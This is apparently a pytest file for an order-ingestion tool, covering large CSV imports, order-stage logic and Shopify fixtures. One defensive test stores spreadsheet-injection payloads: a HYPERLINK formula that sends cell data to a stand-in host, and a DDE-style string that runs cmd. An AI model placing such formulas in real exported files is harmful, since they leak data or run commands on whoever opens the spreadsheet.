"""Order files of any size and quality: good rows go in, broken ones say where, whatever order they come in."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import timedelta
from itertools import permutations
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hub.channels._shape import Payload, Understood
from hub.channels.orders import channel
from hub.consumers.project import folded
from hub.events.draft import Draft
from hub.events.envelope import Event
from hub.events.prepare import prepare
from hub.projections import timeline
from hub.projections.orders import projection, stage_of
from tests.hostile import rig
from tests.hostile.test_mails import assert_small
from tests.journeys.story import NOW
from tests.laws.worlds import HERE

SHOPIFY = Path(__file__).parents[3] / "shared" / "data" / "orders_shopify"
HEADER = "order,stage,time,email,phone,account,total,currency,tracking"
STAGES = ("placed", "paid", "shipped", "delivered")
ROWS = 100_000
BROKEN = {
    "time": "{order},placed,yesterday,c@example.com,,,1.00,EUR,",
    "stage": "{order},eaten,2026-11-01T10:00:00Z,c@example.com,,,1.00,EUR,",
    "total": "{order},placed,2026-11-01T10:00:00Z,c@example.com,,,a lot,EUR,",
    "email": "{order},placed,2026-11-01T10:00:00Z,no address,,,1.00,EUR,",
    "order": ",placed,2026-11-01T10:00:00Z,c@example.com,,,1.00,EUR,",
    None: "{order},placed,2026-11-01T10:00:00Z,c@example.com",
}


def row(number: int) -> str:
    order, time = 100_000 + number // 4, f"2026-11-{1 + number % 20:02d}T10:00:00+03:30"
    return f"{order},{STAGES[number % 4]},{time},c{number // 40}@example.com,,,{number % 500}.50,EUR,"


def write(path: Path, rows: int) -> dict[int, str | None]:
    """The columns that are broken, by line; every hundredth row is."""
    kinds, broken = list(BROKEN.items()), {}
    with path.open("w") as file:
        file.write(HEADER + "\n")
        for number in range(rows):
            line, text = number + 2, row(number)
            if number % 100 == 50:
                broken[line], text = kinds[number // 100 % len(kinds)]
                text = text.format(order=100_000 + number // 4) + f"{'' if text.count(',') == 3 else number}"
            file.write(text + "\n")
    return broken


def test_100_000_rows_go_in_but_for_the_broken_ones_each_with_its_line_and_column(
    home: Path, box: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = write(box / "orders.csv", ROWS)
    (box / "small.csv").write_text(f"{HEADER}\n{row(0).replace('100000', '9')}\n")
    idle = rig.well(rig.hub(home, "ingest", "orders", box / "small.csv", "--json"))
    ran = rig.well(rig.hub(home, "ingest", "orders", box / "orders.csv", "--json"))
    assert ran.json == rig.counts(ROWS, ROWS - len(broken), rejected=len(broken))
    assert_small(ran, idle, capsys, f"{ROWS:,} rows")
    assert "payloads: " in ran.err
    assert "events: " in ran.err

    listed = rig.well(rig.hub(home, "rejected", "list", "--limit", "10000", "--json")).json["items"]
    assert {one["at"] for one in listed} == {f"line {n}, column {c}" if c else f"line {n}" for n, c in broken.items()}
    assert rig.well(rig.hub(home, "order", "124999", "--json")).json["stage"] == "delivered"

    again = rig.hub(home, "ingest", "orders", box / "orders.csv", "--json")
    assert again.json == rig.counts(0, 0, duplicates=ROWS)
    assert_small(again, idle, capsys, f"the same {ROWS:,} rows again")
    assert rig.hub(home, "ledger", "--json").json["balanced"]


def test_cells_that_a_spreadsheet_would_run_are_plain_text(home: Path, box: Path) -> None:
    formula = '=HYPERLINK(""http://x.example/?""&A1)'
    (box / "orders.csv").write_text(
        f"{HEADER}\n"
        f'31001,placed,2026-11-01T10:00:00Z,calc@example.com,,,1.00,EUR,"{formula}"\n'
        "31002,placed,2026-11-01T10:00:00Z,calc@example.com,,,1.00,EUR,@SUM(1+1)*cmd|' /C calc'!A0\n"
        "31003,placed,2026-11-01T10:00:00Z,calc@example.com,,,=1+1,EUR,\n"
    )
    assert rig.ingest(home, "orders", box) == rig.counts(3, 2, rejected=1)
    tracking = {
        number: rig.well(rig.hub(home, "order", number, "--json")).json["tracking"] for number in ("31001", "31002")
    }
    assert tracking == {"31001": formula.replace('""', '"'), "31002": "@SUM(1+1)*cmd|' /C calc'!A0"}
    (rejected,) = rig.well(rig.hub(home, "rejected", "list", "--json")).json["items"]
    assert rejected["at"] == "line 4, column total"


# -- in any order ------------------------------------------------------------------------------------------------------

STEPS = ("placed", "confirmed", "paid", "packed", "shipped", "delivered", "returned", "refunded")


def steps() -> list[Event]:
    lines = [
        f"51001,{stage},{NOW - timedelta(days=30 - n):%Y-%m-%dT%H:%M:%SZ},,,,9.00,EUR," for n, stage in enumerate(STEPS)
    ]
    return [_event(f"{HEADER}\n{line}".encode()) for line in lines]


def _event(body: bytes) -> Event:
    outcome = channel.parse(Payload(body, "files", NOW, {"format": "csv", "line": "2"}))
    assert isinstance(outcome, Understood)
    return prepare(outcome.drafts[0], HERE, NOW)


def order_of(events: Sequence[Event]) -> Any:
    (only,) = folded(projection, {}, events).values()
    return only


def stage(events: Sequence[Event]) -> str | None:
    order = order_of(events)
    return stage_of(sorted(order.history), order.total)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data(), st.integers(1, len(STEPS)))
def test_steps_in_any_order_and_repeated_reach_the_same_stage(data: st.DataObject, count: int) -> None:
    happened = steps()[:count]
    came = data.draw(st.permutations(happened))
    assert order_of(came) == order_of(happened)
    repeated = data.draw(st.permutations(came + data.draw(st.lists(st.sampled_from(happened), max_size=6))))
    assert stage(repeated) == stage(happened)


def step(kind: str, day: int, **fields: Any) -> Event:
    draft = Draft(f"order.{kind}", NOW - timedelta(days=30 - day), "/shop", f"{kind}{day}", {"order": "5"} | fields)
    return prepare(draft, HERE, NOW)


PLACED = {"total": "100.00", "currency": "EUR"}


@pytest.mark.parametrize(
    ("said", "reached"),
    [
        ([{"amount": "10.00"}], "confirmed"), ([{"amount": "10"}, {"amount": "89.99"}], "confirmed"),
        ([{"amount": "10"}, {"amount": "90"}], "paid"), ([{"amount": "100"}], "paid"), ([{"amount": "101"}], "paid"),
        ([{}], "paid"), ([{"amount": "10"}, {}], "paid"), ([{"amount": "10", "currency": "USD"}], "paid"),
        ([{"amount": "10", "currency": "EUR"}], "confirmed"), ([{"amount": "0"}], "confirmed"),
        ([{"amount": "10", "currency": "eur"}], "confirmed"), ([{"amount": "100"}, {"amount": "-100"}], "paid"),
    ],
)  # fmt: skip
def test_payments_that_stay_below_the_total_are_no_stage(said: list[dict[str, str]], reached: str) -> None:
    steps = [step("placed", 0, **PLACED), step("confirmed", 1), *(step("paid", n + 2, **one) for n, one in enumerate(said))]
    assert {order_of(came).stage for came in permutations(steps)} == {reached}
    unknown = [step("placed", 0), *steps[1:]]
    assert order_of(unknown).stage == "paid"


def test_a_refund_of_a_part_is_no_stage_and_its_parts_add_up() -> None:
    steps = [step("placed", 0, **PLACED), step("paid", 1), step("refunded", 2, amount="5"), step("refunded", 3, amount="95")]
    assert [order_of(steps[: n + 1]).stage for n in range(4)] == ["placed", "paid", "paid", "refunded"]


def test_a_refund_that_is_written_with_a_minus_is_one() -> None:
    steps = [step("placed", 0, **PLACED), step("refunded", 2, amount="-5"), step("refunded", 3, amount="-95")]
    assert [order_of(steps[: n + 1]).stage for n in range(3)] == ["placed", "placed", "refunded"]


def told(as_of: str, **fields: Any) -> Event:
    """Of the newer word the step itself was the earlier one: when it was placed says nothing of when that was written down."""
    time = NOW - timedelta(days=int(as_of[-2:]))
    return prepare(Draft("order.placed", time, "/shop", as_of, {"order": "5", "as_of": as_of} | fields), HERE, NOW)


def test_the_newest_word_about_an_order_counts_whenever_it_comes() -> None:
    cups, pots = [{"title": "Cup"}], [{"title": "Pot"}]
    words = [
        told("2026-11-01", total="10", currency="USD", lines=cups, party={"kind": "account", "value": "A7"}),
        told("2026-11-03", total="30", lines=pots, currency=None, party=None),
        told("2026-11-02", total="20", currency="EUR", party={"kind": "account", "value": "A8"}),
    ]
    for came in permutations(words):
        order = order_of(came)
        assert (order.total, order.currency, order.lines[0]["title"]) == ("30.00", "EUR", "Pot")
        assert order.party == words[2].party


def test_of_an_orders_total_counts_what_was_said_when_it_was_placed() -> None:
    for came in permutations([step("placed", 0, **PLACED), step("shipped", 3, total="9.00", tracking="T1")]):
        order = order_of(came)
        assert (order.total, order.tracking, order.changed) == ("100.00", "T1", step("shipped", 3).time)
    assert order_of([step("shipped", 3, total="9.00")]).total == "9.00"


def test_the_parcel_of_an_order_is_the_one_told_last() -> None:
    parcels = [step("shipped", day, tracking=f"T{day}", carrier=carrier) for day, carrier in ((2, "Post"), (4, "DHL"))]
    for came in permutations([step("placed", 0), *parcels, step("delivered", 5)]):
        assert (order_of(came).tracking, order_of(came).carrier) == ("T4", "DHL")


def test_an_order_has_the_ids_that_each_back_office_gives_it() -> None:
    known = [step("placed", 0, order_ref="shopify:7"), step("paid", 1, order_ref="erp:1"), step("shipped", 2)]
    for came in permutations(known):
        assert (order_of(came).number, order_of(came).refs) == ("5", ["erp:1", "shopify:7"])


def test_every_step_keeps_what_it_said_and_nothing_personal() -> None:
    parcels = [{"carrier": "DHL", "tracking": "T1"}, {"carrier": "UPS", "tracking": "T2"}]
    invoiced = step("invoiced", 1, document="R-17", amount="100", note="call Sara")
    kept = order_of([invoiced, *(step("shipped", n + 2, **parcel) for n, parcel in enumerate(parcels))])
    assert [one[4] for one in kept.history] == [{"amount": "100.00", "document": "R-17"}, *parcels]
    assert "Sara" not in repr(kept)


@pytest.mark.parametrize(
    ("kind", "fields", "text"),
    [
        ("invoiced", {"document": "R-17", "amount": "100", "currency": "EUR", "note": "by post"}, "R-17\n100.00 EUR\nby post"),
        ("paid", {"amount": "10", "document": "PAY-7"}, "PAY-7\n10.00"), ("refunded", {"amount": "5"}, "5.00"),
        ("shipped", {"carrier": "DHL", "tracking": "T1", "amount": "100"}, "DHL T1"), ("noted", {"note": "gift"}, "gift"),
        ("delivered", {"currency": "EUR"}, None),
    ],
)  # fmt: skip
def test_a_step_in_the_timeline_tells_what_it_said(kind: str, fields: dict[str, str], text: str | None) -> None:
    (item,) = timeline.rows(step(kind, 1, **fields))
    assert item.text == text


def test_a_file_of_steps_in_any_order_and_repeated_reaches_the_same_stage(home: Path, box: Path) -> None:
    lines = [f"{{order}},{name},2026-11-{n + 1:02d}T10:00:00Z,,,,9.00,EUR," for n, name in enumerate(STEPS[:6])]
    ways = {"61001": lines, "61002": lines[::-1], "61003": lines[3:] + lines[:3] + lines[2:5]}
    rows = [line.format(order=order) for order, way in ways.items() for line in way]
    (box / "orders.csv").write_text("\n".join([HEADER, *rows]))
    assert rig.ingest(home, "orders", box) == rig.counts(18, 18, duplicates=3)
    reached = {rig.well(rig.hub(home, "order", order, "--json")).json["stage"] for order in ways}
    assert reached == {"delivered"}


# -- Shopify -----------------------------------------------------------------------------------------------------------


@pytest.mark.skipif(not SHOPIFY.is_dir(), reason="Shopify's fixtures, ../shared/data/orders_shopify, are absent")
def test_shopify_files_are_understood_or_ignored_with_a_reason(home: Path) -> None:
    number = len(list(SHOPIFY.glob("*.json")))
    counted = rig.ingest(home, "orders", SHOPIFY)
    assert counted["received"] == number
    assert (counted["rejected"], counted["duplicates"]) == (0, 0)
    known = {
        name: rig.ingest(home, "orders", SHOPIFY / f"{name}.json")["duplicates"] for name in ("order", "gift_card")
    }
    assert known == {"order": 1, "gift_card": 1}
    placed = json.loads((SHOPIFY / "order.json").read_text())["order"]
    shown = rig.well(rig.hub(home, "order", placed["name"], "--json")).json
    assert (shown["total"], shown["currency"]) == (placed["total_price"], placed["currency"])
    assert shown["customer"]
    types = {json.loads(line)["type"] for line in rig.well(rig.hub(home, "events")).out.splitlines()}
    assert {"order.placed", "order.paid", "order.refunded", "order.shipped", "party.described"} <= types
    assert counted["ignored"] > 0
